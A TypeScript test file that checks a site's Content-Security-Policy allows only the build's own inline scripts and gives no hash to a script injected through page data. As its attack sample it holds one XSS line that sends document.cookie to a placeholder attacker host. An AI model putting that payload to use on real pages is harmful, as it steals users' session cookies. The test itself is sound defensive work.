// SPDX-License-Identifier: EUPL-1.2
// The script policy comes from the build, never from the answer: a script that reached a page
// through data (a stored value rendered raw by mistake) gets no hash, so the browser does not run it.
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { buildScriptHashes } from '../../src/cli/csp-hashes.ts';
import { useScriptHashes, withSecurityHeaders } from '../../src/server/http/security-headers.ts';

const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

describe('the script policy', () => {
  it('names the build’s own inline scripts and not one that came with the page', async () => {
    const built = await buildScriptHashes();
    // the island loader and the hydration directives Astro can put in a page
    expect(built.scripts.map((s) => s.source.split('/').pop())).toEqual(['astro-island.prebuilt.js', 'load.prebuilt.js', 'idle.prebuilt.js', 'visible.prebuilt.js', 'media.prebuilt.js', 'only.prebuilt.js']);
    useScriptHashes(built.scripts.map((s) => s.hash));
    const injected = 'fetch("https://elders.example/?c="+document.cookie)';
    const page = new Response(`<!doctype html><p>Gemeente <script>${injected}</script></p>`, { headers: { 'Content-Type': 'text/html; charset=utf-8' } });
    const answered = withSecurityHeaders(page, { staff: false });
    const policy = answered.headers.get('content-security-policy') ?? '';
    expect(policy).not.toContain(hashOf(injected));
    const scripts = policy.split(';').find((d) => d.trim().startsWith('script-src')) ?? '';
    expect(scripts).not.toContain("'unsafe-inline'");
    for (const s of built.scripts) expect(policy).toContain(`'${s.hash}'`);
    // the page itself goes out untouched (it is not read to make the policy)
    expect(await answered.text()).toContain(injected);
  });
});
